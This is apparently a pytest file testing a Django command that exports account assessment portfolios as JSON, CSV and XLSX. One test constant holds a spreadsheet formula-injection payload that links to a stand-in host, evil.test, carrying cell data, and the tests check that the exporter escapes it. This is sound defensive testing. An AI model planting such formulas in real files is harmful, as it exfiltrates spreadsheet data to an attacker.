import csv
import json
from datetime import date
from io import StringIO

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from keyfolio.accounts.models import Account
from keyfolio.assessments.services import ScoreInput, assessment_create

KEYS = [
    "account",
    "assessed_on",
    "client_index",
    "our_index",
    "zone",
    "completeness",
    "client_index_exact",
    "our_index_exact",
]


def portfolio(*args: str) -> str:
    out = StringIO()
    call_command("portfolio", *args, stdout=out)
    return out.getvalue()


def assess(account: Account, **values: float) -> None:
    assessment_create(
        account=account,
        assessor=None,
        scores={key: ScoreInput(value) for key, value in values.items()},
        assessed_on=date(2024, 5, 6),
    )


@pytest.fixture
def accounts(world):
    # Northwind: client (70 + 80 + 61) / 3, ours (40 + 45) / 2 = 42.5: a target account.
    assess(
        world.account,
        client_growth=70,
        client_potential=80,
        client_competition=61,
        relationship=40,
        prices=45,
    )
    Account.objects.create(workspace=world.workspace, name="Unassessed Ltd")
    Account.objects.create(workspace=world.workspace, name="Zed Archived").archive()
    return world


def test_it_prints_json_with_exactly_the_published_keys(accounts):
    records = json.loads(portfolio("--workspace", "acme"))

    assert [r["account"] for r in records] == ["Northwind", "Unassessed Ltd"]
    assert all(list(r) == KEYS for r in records)
    northwind, unassessed = records
    assert northwind["assessed_on"] == "2024-05-06"
    assert northwind["client_index"] == 70.3  # As shown (keyfolio.method.shown_index).
    assert northwind["client_index_exact"] == pytest.approx(211 / 3)  # Not rounded.
    assert northwind["client_index_exact"] != round(northwind["client_index_exact"], 2)
    assert northwind["our_index"] == northwind["our_index_exact"] == 42.5
    assert northwind["zone"] == "target"
    assert northwind["completeness"] == pytest.approx(5 / 15)
    assert unassessed == dict.fromkeys(KEYS) | {"account": "Unassessed Ltd"}


def test_it_prints_csv_with_empty_cells_for_accounts_never_assessed(accounts):
    rows = list(csv.reader(StringIO(portfolio("--workspace", "acme", "--format", "csv"))))

    assert rows[0] == KEYS
    assert rows[1][:2] == ["Northwind", "2024-05-06"]
    assert rows[1][2] == "70.3"
    assert rows[1][4] == "target"
    assert float(rows[1][6]) == pytest.approx(211 / 3)
    assert rows[2] == ["Unassessed Ltd"] + [""] * 7
    assert len(rows) == 3


def test_it_shows_nothing_of_another_workspace(accounts):
    names = [r["account"] for r in json.loads(portfolio("--workspace", "globex"))]
    assert names == ["Initech"]


@pytest.mark.parametrize("size", [3, 30])
def test_it_runs_a_constant_number_of_queries(world, django_assert_num_queries, size):
    for number in range(size):
        account = Account.objects.create(workspace=world.workspace, name=f"Account {number:02}")
        if number % 2:
            assess(account, client_growth=number, relationship=100 - number)
    # One query for the workspace and one for the accounts with their assessments.
    with django_assert_num_queries(2):
        records = json.loads(portfolio("--workspace", "acme"))
    assert len(records) == size + 1


HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


def test_it_writes_a_hostile_account_name_as_text_in_csv(accounts):
    Account.objects.create(workspace=accounts.workspace, name=HOSTILE)
    output = portfolio("--workspace", "acme", "--format", "csv")
    rows = list(csv.reader(StringIO(output)))
    assert rows[1][0] == "'" + HOSTILE
    assert '\n"=HYPERLINK' not in output  # No cell starts with the formula.


def test_it_writes_xlsx_to_a_file_with_numbers_and_dates_as_cells(accounts, tmp_path):
    Account.objects.create(workspace=accounts.workspace, name=HOSTILE)
    path = tmp_path / "portfolio.xlsx"
    out = portfolio("--workspace", "acme", "--format", "xlsx", "--output", str(path))

    assert "Wrote 3 rows" in out
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert [cell.value for cell in sheet[1]] == KEYS
    hostile, northwind, unassessed = list(sheet.iter_rows(min_row=2))
    assert (hostile[0].value, hostile[0].data_type) == ("'" + HOSTILE, "s")
    assert northwind[0].value == "Northwind"
    assert northwind[1].is_date and northwind[1].value.date() == date(2024, 5, 6)
    assert northwind[2].data_type == "n" and northwind[2].value == 70.3
    assert northwind[3].value == 42.5
    assert northwind[4].value == "target"
    assert northwind[6].data_type == "n" and northwind[6].value == pytest.approx(211 / 3)
    assert [cell.value for cell in unassessed] == ["Unassessed Ltd", *[None] * 7]


def test_it_writes_csv_and_json_to_a_file_when_asked(accounts, tmp_path):
    portfolio("--workspace", "acme", "--format", "csv", "--output", str(tmp_path / "p.csv"))
    portfolio("--workspace", "acme", "--output", str(tmp_path / "p.json"))

    rows = list(csv.reader((tmp_path / "p.csv").open(encoding="utf-8")))
    assert [row[0] for row in rows] == ["account", "Northwind", "Unassessed Ltd"]
    records = json.loads((tmp_path / "p.json").read_text(encoding="utf-8"))
    assert records[0]["assessed_on"] == "2024-05-06"


def test_it_refuses_xlsx_without_a_file(accounts):
    with pytest.raises(CommandError, match="--output FILE"):
        portfolio("--workspace", "acme", "--format", "xlsx")


def test_it_says_when_it_cannot_write_the_file(accounts, tmp_path):
    with pytest.raises(CommandError, match="Cannot write"):
        portfolio("--workspace", "acme", "--output", str(tmp_path / "missing" / "p.csv"))
